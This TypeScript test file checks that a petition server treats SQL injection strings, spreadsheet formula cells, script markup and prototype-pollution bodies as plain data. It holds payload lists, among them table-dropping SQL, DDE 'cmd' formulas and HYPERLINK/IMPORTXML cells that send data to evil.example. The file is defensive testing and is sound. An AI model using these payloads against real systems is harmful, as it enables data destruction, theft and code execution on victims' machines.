import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { OwnSignature, Petition, SignatureReceipt } from '@dugnad/client/model';
import { post, publicUrl, sign } from '../open-test-server.test.page.ts';
import { askDesk, dumpTables, openWholeServer, openWorld } from './whole-server.test.page.ts';
import type { WholeServer } from './whole-server.test.page.ts';

/** Texts that end a statement, open another one, or mean something to a pattern. */
const SQL = [
  "'; DROP TABLE signatures;--", "' OR '1'='1", "x' UNION SELECT id_hash FROM desk_sessions--", "Robert'); DELETE FROM petitions;--", '" OR ""="', "\\'; UPDATE petition_counts SET confirmed = 9999;--",
  '%', '_', '%%%', "%' ESCAPE '\\", '$1', '?1', ':name', '@p1', "'||(SELECT email FROM signatures LIMIT 1)||'", '/* */', ';', '\\', "''", '1; PRAGMA writable_schema=ON', "' AND randomblob(1000000000)--", "E'\\x41'", '$$ SELECT 1 $$',
];

/** Cells that spreadsheets run, or read beyond (OWASP, CSV injection). */
const FORMULAE = [
  '=1+1', '+1', '-1+1', '@SUM(A1)', '=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", '=IMPORTXML("https://evil.example","//a")', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)',
  '";=1+1', 'a";"=1+1', 'a\r\n=1+1;b', 'a,=1+1', 'a;=1+1', '"=1+1"', "'=1+1", '\u00a0=1+1', '\u2003@x', '|calc', '=DDE("cmd";"/C calc";"x")', '\ufeff=1+1',
];

const counts = async ({ app }: WholeServer): Promise<string> => (await app.inject('/api/v1/petitions/skatepark/count')).body;

test('what would be a statement is kept as the words that somebody typed, and found again by them', async (context) => {
  const server = await openWholeServer(context);
  await openWorld(server);
  for (const [index, text] of SQL.entries()) {
    const answer = await sign(server.app, { name: `Ada ${text} Lind`, comment: text, email: `ada${index}@example.org` });
    assert.ok([202, 422].includes(answer.statusCode), `${text} ${answer.body}`);
    if (answer.statusCode !== 202) continue;
    const { reference } = answer.json<SignatureReceipt>();
    const row = await server.store.database.selectFrom('signatures').select(['name', 'comment']).where('email', '=', `ada${index}@example.org`).executeTakeFirstOrThrow();
    assert.deepEqual([row.name, row.comment], [`Ada ${text} Lind`, text]);
    const found = JSON.parse((await askDesk(server, 'GET', `petitions/skatepark/signatures?q=${encodeURIComponent(`Ada ${text} L`)}`)).body) as { signers: { reference: string }[] };
    assert.deepEqual(found.signers.map((signer) => signer.reference), [reference], text);
  }
});

test('what is looked for at the desk is a text, and never finds more than has it', async (context) => {
  const server = await openWholeServer(context);
  await openWorld(server);
  const before = await dumpTables(server);
  for (const text of SQL) {
    const found = await askDesk(server, 'GET', `petitions/skatepark/signatures?q=${encodeURIComponent(text)}&state=${encodeURIComponent(text)}&page=${encodeURIComponent(text)}`);
    assert.deepEqual([found.statusCode, (JSON.parse(found.body) as { signers: unknown[] }).signers], [200, []], text);
    assert.equal((await askDesk(server, 'GET', `audit?page=${encodeURIComponent(text)}`)).statusCode, 200);
  }
  assert.deepEqual(await dumpTables(server), before);
});

test('an identifier that would be a statement is that of nothing', async (context) => {
  const server = await openWholeServer(context);
  const world = await openWorld(server);
  const before = await dumpTables(server);
  for (const text of SQL.map(encodeURIComponent)) {
    for (const url of [`/api/v1/petitions/${text}`, `/api/v1/petitions/${text}/count`, `/api/v1/signatures/${text}`, `/embed/petition/${text}`, `/p/${text}`]) assert.equal((await server.app.inject(url)).statusCode, 404, url);
    assert.ok([404, 410].includes((await server.app.inject(`/embed/petition/skatepark/confirm/${text}`)).statusCode));
    assert.equal((await askDesk(server, 'GET', `petitions/${text}`)).statusCode, 404);
    assert.equal((await askDesk(server, 'PUT', `petitions/skatepark/comments/${text}`, { decision: 'hidden' })).statusCode, 404);
    assert.equal((await askDesk(server, 'DELETE', `coordinators/${text}`, {})).statusCode, 404);
    assert.equal((await server.app.inject({ url: `/desk/api/sites/${text}/petitions`, headers: { ...server.session, origin: publicUrl } })).statusCode, 404);
    const answer = await post(server.app, '/api/v1/confirmations', { reference: decodeURIComponent(text), code: '123456' });
    assert.ok([410, 422].includes(answer.statusCode), answer.body);
  }
  assert.deepEqual({ ...(await dumpTables(server)), answers: [] }, { ...before, answers: [] });
  assert.ok(world.waiting.token);
});

test('a condition that would be a statement rules nobody out', async (context) => {
  const server = await openWholeServer(context);
  await openWorld(server);
  const before = await counts(server);
  for (const text of SQL) {
    for (const part of ['name', 'domain', 'postcode']) {
      const { statusCode, body } = await askDesk(server, 'POST', 'petitions/skatepark/invalidations/preview', { [part]: text });
      assert.deepEqual([statusCode, (JSON.parse(body) as { number: number }).number], [200, 0], `${part} ${text}`);
    }
  }
  assert.equal(await counts(server), before);
});

/** As a spreadsheet reads it (RFC 4180). */
function readCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${separator}\\r\\n]*))(${separator}|\\r\\n)`, 'gy');
  for (let match = cell.exec(text); match; match = cell.exec(text)) cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
  return cells;
}

const RUNS = /^[\s\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

for (const separator of [';', ','] as const) {
  test(`no cell of an export runs in a spreadsheet, whatever its signers typed, with “${separator}” between the cells`, async (context) => {
    const server = await openWholeServer(context);
    let kept = 0;
    for (const [index, text] of FORMULAE.entries()) {
      const { statusCode } = await sign(server.app, { comment: text, email: `ada${index}@example.org` });
      if (statusCode === 202) kept += 1;
    }
    assert.ok(kept >= 20, `${kept} comments were kept`);
    const { file } = JSON.parse((await askDesk(server, 'POST', 'petitions/skatepark/exports', { format: 'csv', separator })).body) as { file: { text: string } };
    const cells = readCells(file.text.slice(1), separator);
    assert.equal(cells.length, (kept + 1) * 15, 'each signer has one row of as many cells as the first');
    for (const cell of cells) assert.doesNotMatch(cell, RUNS, JSON.stringify(cell));
  });
}

for (const text of FORMULAE) {
  test(`nobody is called ${JSON.stringify(text)} in an export or a hand-over, by whatever way they signed`, async (context) => {
    const server = await openWholeServer(context);
    const names = [text, `Ada ${text}`];
    for (const [index, name] of names.entries()) {
      await sign(server.app, { name, email: `ada${index}@example.org` });
      await askDesk(server, 'POST', 'petitions/skatepark/sheets', { code: `AB${index}`, names: [{ name, postcode: '0655' }] });
    }
    await server.store.database.updateTable('signatures').set({ state: 'confirmed' }).execute();
    for (const path of ['exports', 'hand-overs']) {
      const { file } = JSON.parse((await askDesk(server, 'POST', `petitions/skatepark/${path}`, { format: 'csv' })).body) as { file: { text: string } };
      for (const cell of readCells(file.text.slice(1), ';')) assert.doesNotMatch(cell, RUNS, JSON.stringify(cell));
    }
  });
}

const MARKUP = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', "javascript:alert('1')", '{{7*7}}', '${7*7}', '</title><script>1</script>', 'a\u2028b\u2029c', '&lt;b&gt;'];

test('what would be markup is data in every answer of the interface, and no browser takes it for a page', async (context) => {
  const server = await openWholeServer(context);
  for (const [index, text] of MARKUP.entries()) {
    const signed = await sign(server.app, { name: 'Ada Lind', visibility: 'name', comment: text, email: `ada${index}@example.org` });
    if (signed.statusCode !== 202) continue;
    await server.store.database.updateTable('signatures').set({ state: 'confirmed', comment_state: 'shown' }).execute();
    server.clock.now += 60_000;
    const answer = await server.app.inject('/api/v1/petitions/skatepark');
    assert.ok(answer.json<Petition>().comments?.some((comment) => comment.text === text), text);
    assert.deepEqual([answer.headers['content-type'], answer.headers['x-content-type-options'], answer.headers['content-security-policy']], ['application/json; charset=utf-8', 'nosniff', "default-src 'none'; frame-ancestors 'none'"]);
  }
});

test('what would be an object of the language itself is a field like any other', async (context) => {
  const server = await openWholeServer(context);
  const { manageToken } = await openWorld(server);
  for (const body of ['{"__proto__":{"visibility":"name"},"visibility":"hidden"}', '{"constructor":{"prototype":{"visibility":"name"}},"visibility":"hidden"}', '{"visibility":"hidden","toString":"x","hasOwnProperty":1}']) {
    const answer = await post(server.app, `/api/v1/signatures/${manageToken}/changes`, body);
    assert.ok(answer.statusCode === 400 || answer.json<OwnSignature>().visibility === 'hidden', body);
    assert.equal(({} as { visibility?: string }).visibility, undefined);
  }
});
